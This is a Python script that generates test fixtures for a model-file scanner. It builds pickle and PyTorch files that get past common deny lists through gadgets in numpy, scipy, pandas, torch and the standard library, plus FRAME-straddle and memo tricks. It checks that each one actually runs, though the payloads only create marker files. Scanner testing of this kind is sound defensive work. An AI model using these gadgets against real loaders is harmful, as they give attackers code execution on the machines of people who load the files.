#!/usr/bin/python3
"""Generate the bypass-audit fixtures: pickles that use gadgets outside the
classic deny lists, each proven live.

Run from the repository root with Debian's interpreter (python3-torch, -numpy,
-sklearn, -scipy, -pandas installed; no PyPI):

    /usr/bin/python3 test/gen_bypass_fixtures.py

Writes test/fixtures/malicious/bypass/*.pkl and test/fixtures/manifest-bypass.json
(same schema as manifest.json; catalogue ids are section numbers of
/work/shared/reference/threats-and-peers.md, "3.<sub>.<item>").

Every payload only creates a marker file: Python payloads append to
$MODELGATE_MARKER, gadgets whose argument is a file name write the RELATIVE
path "modelgate-marker" (some libraries add a suffix such as .mat or .dir) in
the loader's working directory. A fixture is kept only after the generator
loaded it with the real loader in a throw-away subprocess (fresh temp cwd)
and saw a marker appear; otherwise generation fails.

The pickle assembler (G, Call, asm, ...) comes from test/gen_fixtures.py.
"""
import glob
import io
import json
import os
import pickle
import struct
import subprocess
import sys
import tempfile
import time
import zipfile

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, HERE)
from gen_fixtures import G, Call, Raw, asm, emit, PY_CODE, PY_EXPR, BAKED, SHELL_CMD  # noqa: E402

FIX = os.path.join(HERE, 'fixtures')
OUT = os.path.join(FIX, 'malicious', 'bypass')
MANIFEST = []

LOADERS = {
    'pickle.load': "import pickle\nwith open(FILE,'rb') as f: pickle.load(f)",
    'torch.load': "import torch\ntorch.load(FILE, weights_only=False)",
    'pickle.load(io.BytesIO(data))': "import pickle, io\npickle.load(io.BytesIO(open(FILE,'rb').read()))",
    'pickle.Unpickler (one instance, load() until EOF)':
        "import pickle\nwith open(FILE,'rb') as f:\n u = pickle.Unpickler(f)\n"
        " while True:\n  try: u.load()\n  except EOFError: break",
}


def prove(data, loader):
    code = 'FILE = %r\n' % FILE_PLACEHOLDER + LOADERS[loader]
    with tempfile.TemporaryDirectory(prefix='mg-bypass-') as td:
        path = os.path.join(td, 'candidate.pkl')
        with open(path, 'wb') as f:
            f.write(data)
        marker = os.path.join(td, 'marker-from-env')
        env = dict(os.environ, MODELGATE_MARKER=marker)
        env.pop('PYTHONPATH', None)
        work = os.path.join(td, 'cwd')
        os.mkdir(work)
        r = subprocess.run([sys.executable, '-c', code.replace(repr(FILE_PLACEHOLDER), repr(path))],
                           cwd=work, env=env, timeout=120, stdin=subprocess.DEVNULL,
                           capture_output=True, text=True)
        for _ in range(30):
            if os.path.exists(marker) or glob.glob(os.path.join(work, BAKED + '*')):
                return True, r.returncode, ''
            time.sleep(0.1)
        return False, r.returncode, (r.stderr.strip().splitlines() or [''])[-1]


FILE_PLACEHOLDER = '@@FILE@@'


def W(name, data, technique, catalogue, loader='pickle.load', fmt='pickle'):
    ok, rc, err = prove(data, loader)
    if not ok:
        sys.exit('NOT PROVEN: %s (rc=%s) %s' % (name, rc, err))
    with open(os.path.join(OUT, name), 'wb') as f:
        f.write(data)
    MANIFEST.append({"file": 'malicious/bypass/' + name, "label": "malicious", "format": fmt,
                     "technique": technique, "catalogue": catalogue, "loader": loader, "proven": True})
    print('  proven  %-45s (loader rc=%s)' % (name, rc))


def torch_zip_with(data_pkl):
    """A real torch.save zip of a small dict with archive/data.pkl replaced."""
    import torch
    buf = io.BytesIO()
    torch.save({'a': 1}, buf)
    src = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, 'w', zipfile.ZIP_STORED) as z:
        for info in src.infolist():
            data = src.read(info.filename)
            if info.filename.endswith('/data.pkl'):
                data = data_pkl
            zi = zipfile.ZipInfo(info.filename, (1980, 1, 1, 0, 0, 0))
            z.writestr(zi, data)
    return out.getvalue()


def getattr_(obj, name):
    return Call(G('builtins', 'getattr'), obj, name)


def main():
    os.makedirs(OUT, exist_ok=True)
    for old in glob.glob(os.path.join(OUT, '*')):
        os.remove(old)

    W('pyio_open_write.pkl', asm(Call(G('_pyio', 'open'), BAKED, 'w')),
      '_pyio.open(path, "w"): the pure-Python io module writes files like builtins.open', '3.1.8')
    W('codecs_open_write.pkl', asm(Call(G('codecs', 'open'), BAKED, 'w')),
      'codecs.open(path, "w") creates a file', '3.1.8')
    W('gzip_open_write.pkl', asm(Call(G('gzip', 'open'), BAKED, 'wb')),
      'gzip.open(path, "wb") creates a file', '3.1.8')
    W('numpy_savetxt.pkl', asm(Call(G('numpy', 'savetxt'), BAKED, [1])),
      'numpy.savetxt(path, [1]): file write through a numpy top-level function', '3.1.6,3.1.8')
    W('numpy_lib_format_open_memmap.pkl',
      asm(Call(G('numpy.lib.format', 'open_memmap'), BAKED, 'w+', None, (1,))),
      'numpy.lib.format.open_memmap(path, "w+", None, (1,)) creates a file', '3.1.6,3.1.8')
    arr = Call(G('numpy.core.multiarray', '_reconstruct'), G('numpy', 'ndarray'), (0,), b'b')
    W('numpy_ndarray_tofile_getattr.pkl', asm(Call(getattr_(arr, 'tofile'), BAKED), proto=3),
      'getattr(<ndarray rebuilt by the allowlisted _reconstruct>, "tofile")(path): a file-writing '
      'method of an object built by allowlisted globals', '3.1.10')
    W('pandas_dataframe_to_pickle_dotted.pkl',
      asm(Call(G('pandas.core.frame', 'DataFrame.to_pickle'), Call(G('pandas.core.frame', 'DataFrame')), BAKED)),
      'STACK_GLOBAL("pandas.core.frame", "DataFrame.to_pickle")(DataFrame(), path): dotted method of an '
      'allowlisted class writes a file', '3.1.9,3.1.10')
    W('sklearn_dump_svmlight_file.pkl',
      asm(Call(G('sklearn.datasets', 'dump_svmlight_file'), [[1]], [1], BAKED)),
      'sklearn.datasets.dump_svmlight_file(X, y, path): file write from an allowlisted library', '3.1.6')
    W('scipy_io_savemat.pkl', asm(Call(G('scipy.io', 'savemat'), BAKED, {})),
      'scipy.io.savemat(path, {}) writes path.mat', '3.1.6')
    W('typing_forwardref_evaluate.pkl',
      asm(Call(getattr_(Call(G('typing', 'ForwardRef'), PY_EXPR), '_evaluate'), None, None, ())),
      'getattr(typing.ForwardRef(expr), "_evaluate")(None, None, ()): eval of the expression', '3.1.4')
    W('dataclasses_create_fn.pkl',
      asm(Call(G('dataclasses', '_create_fn'), 'f', ['x=' + PY_EXPR], ['pass'])),
      'dataclasses._create_fn("f", ["x=<expr>"], ["pass"]): exec of generated source; the default '
      'value expression runs at definition', '3.1.4')
    W('xxsubinterpreters_run_string.pkl',
      asm(Call(G('_xxsubinterpreters', 'run_string'), Call(G('_xxsubinterpreters', 'create')), PY_CODE)),
      '_xxsubinterpreters.run_string(create(), code): exec in a sub-interpreter', '3.1.4')
    W('torch_fx_reduce_graph_module.pkl',
      asm(Call(G('torch.fx.graph_module', 'reduce_graph_module'),
               {'_code': 'def forward(self):\n    return None\n'}, PY_CODE + '\n')),
      'torch.fx.graph_module.reduce_graph_module(body, import_block): exec of import_block + body code '
      '(what every pickled fx GraphModule does)', '3.1.5')
    # Import helpers in allowlisted libraries that return getattr(import(module), name):
    # no dangerous global appears in the stream.
    W('numpy_ufunc_reconstruct_os_system.pkl',
      asm(Call(Call(G('numpy.core', '_ufunc_reconstruct'), 'os', 'system'), SHELL_CMD)),
      'numpy.core._ufunc_reconstruct("os", "system")(cmd): numpy\'s ufunc unpickling helper imports any '
      'module attribute', '3.1.1')
    W('scipy_uarray_unpickle_function.pkl',
      asm(Call(Call(G('scipy._lib._uarray._backend', 'unpickle_function'), 'os', 'system', None), SHELL_CMD)),
      'scipy._lib._uarray._backend.unpickle_function("os", "system", None)(cmd): scipy\'s function '
      'unpickling helper imports any module attribute', '3.1.1')
    W('pandas_import_optional_dependency.pkl',
      asm(Call(getattr_(Call(G('pandas.compat._optional', 'import_optional_dependency'), 'os'), 'spawnlp'),
               0, 'sh', 'sh', '-c', SHELL_CMD)),
      'getattr(pandas.compat._optional.import_optional_dependency("os"), "spawnlp")(P_WAIT, sh, ...)',
      '3.1.1')
    W('torch_import_dotted_name.pkl',
      asm(Call(Call(G('torch._utils', '_import_dotted_name'), 'os.system'), SHELL_CMD)),
      'torch._utils._import_dotted_name("os.system")(cmd): torch\'s dotted-name import helper', '3.1.1')
    # Legacy torch.save layout: magic, protocol, sys_info, main pickle, storage keys. Its
    # persistent_load returns saved_id[1] for ('module', obj, source_file, source): obj can be
    # any global, which the main pickle then calls.
    legacy = (pickle.dumps(0x1950a86a20f9469cfc6c, 2) + pickle.dumps(1001, 2)
              + pickle.dumps({'protocol_version': 1001, 'little_endian': True,
                              'type_sizes': {'short': 2, 'int': 4, 'long': 4}}, 2)
              + b'\x80\x02' + emit(('module', G('posix', 'system'), None, None), 2) + b'Q'
              + emit((SHELL_CMD,), 2) + b'R.' + pickle.dumps([], 2))
    W('torch_legacy_persistent_module_call.pt', legacy,
      'legacy torch file whose main pickle calls BINPERSID(("module", posix.system, None, None)): '
      'torch\'s legacy persistent_load hands back the global, REDUCE calls it', '3.2.21,3.3.34',
      loader='torch.load', fmt='pytorch-legacy')
    # FRAME straddle, reversed: contiguous readers (pickle.loads, real files) see two byte strings;
    # readers without peek (io.BytesIO, torch.load's data.pkl) drop the rest of the frame when a
    # SHORT_BINUNICODE crosses its end and run the GLOBAL/REDUCE hidden in the second string.
    hidden = b'cposix\nsystem\n' + emit((SHELL_CMD,), 2) + b'R0'
    framed = b'(' + b'\x8c\x0a' + b'A' * 9
    straddle = (b'\x80\x04\x95' + struct.pack('<Q', len(framed)) + framed + b'Z'
                + b'B' + struct.pack('<I', 4 + len(hidden)) + b'WXYZ' + hidden + b't.')
    W('frame_straddle_bytesio.pkl', straddle,
      'FRAME ends inside a SHORT_BINUNICODE: pickle.loads reads through and sees only byte strings; '
      'pickle.load(io.BytesIO) drops the frame rest and runs a GLOBAL/REDUCE hidden in a BINBYTES',
      '3.2.18', loader='pickle.load(io.BytesIO(data))')
    W('frame_straddle_torch_zip.pt', torch_zip_with(straddle),
      'torch zip whose data.pkl has the reversed FRAME straddle: torch.load reads data.pkl through '
      'io.BytesIO and runs the hidden call', '3.2.18,3.2.13', loader='torch.load', fmt='pytorch-zip')
    # functools.partial(int) looks harmless; BUILD runs partial.__setstate__, which swaps in
    # another callable, and the REDUCE that follows calls it.
    W('partial_setstate_rebind.pkl',
      b'\x80\x04' + emit(Call(G('functools', 'partial'), G('builtins', 'int')), 4)
      + emit((G('posix', 'system'), (SHELL_CMD,), {}, None), 4) + b'b)R.',
      'functools.partial(int) then BUILD((posix.system, (cmd,), {}, None)) (partial.__setstate__ '
      'replaces func and args) then REDUCE calls it', '3.1.10,3.2.19')
    W('dotted_module_alias_np_memmap.pkl',
      asm(Call(G('sklearn.utils', 'np.memmap'), BAKED, 'uint8', 'w+', 0, (1,))),
      'STACK_GLOBAL("sklearn.utils", "np.memmap")(path, "uint8", "w+", 0, (1,)): dotted walk through '
      'the module alias np (import numpy as np) to numpy.memmap, which creates the file', '3.1.9')
    # Allowlisted globals that call one of their arguments.
    W('numpy_randomstate_ctor_callthrough.pkl',
      asm(Call(G('numpy.random._pickle', '__randomstate_ctor'), SHELL_CMD, G('posix', 'system'))),
      'numpy.random._pickle.__randomstate_ctor(cmd, posix.system): the allowlisted RandomState helper '
      'calls its bit_generator_ctor argument', '3.1.10')
    W('torch_rebuild_from_type_v2_callthrough.pkl',
      asm(Call(G('torch._tensor', '_rebuild_from_type_v2'), G('posix', 'system'), G('builtins', 'int'),
               (SHELL_CMD,), {})),
      'torch._tensor._rebuild_from_type_v2(posix.system, int, (cmd,), {}): the allowlisted tensor '
      'helper calls func(*args)', '3.1.10')
    # protocol 2, Python 2 module name: CPython's _compat_pickle maps dumbdbm -> dbm.dumb.
    W('py2_dumbdbm_open.pkl', b'\x80\x02cdumbdbm\nopen\n' + emit((BAKED, 'c'), 2) + b'R.',
      'GLOBAL "dumbdbm open" in a protocol-2 pickle: _compat_pickle renames it to dbm.dumb.open, '
      'which creates path.dir/.dat', '3.1.3,3.2.17')
    # Two pickles, one Unpickler: the second reads the first one's memo.
    first = b'\x80\x04\x8c\x05posixq\x00\x8c\x06systemq\x01\x86.'
    second = b'\x80\x04h\x00h\x01\x93' + emit(('touch "${MODELGATE_MARKER:-/tmp/modelgate-marker}"',), 4) + b'R.'
    W('memo_from_earlier_pickle.pkl', first + second,
      'stacked pickles; the second STACK_GLOBALs from BINGETs of memo entries PUT by the first '
      '(valid when one Unpickler loads both: load() keeps the memo)', '3.2.16,3.2.21',
      loader='pickle.Unpickler (one instance, load() until EOF)')

    MANIFEST.sort(key=lambda e: e['file'])
    with open(os.path.join(FIX, 'manifest-bypass.json'), 'w') as f:
        json.dump(MANIFEST, f, indent=1, ensure_ascii=False)
        f.write('\n')
    print('%d bypass fixtures, all proven' % len(MANIFEST))


if __name__ == '__main__':
    _ = Raw
    main()
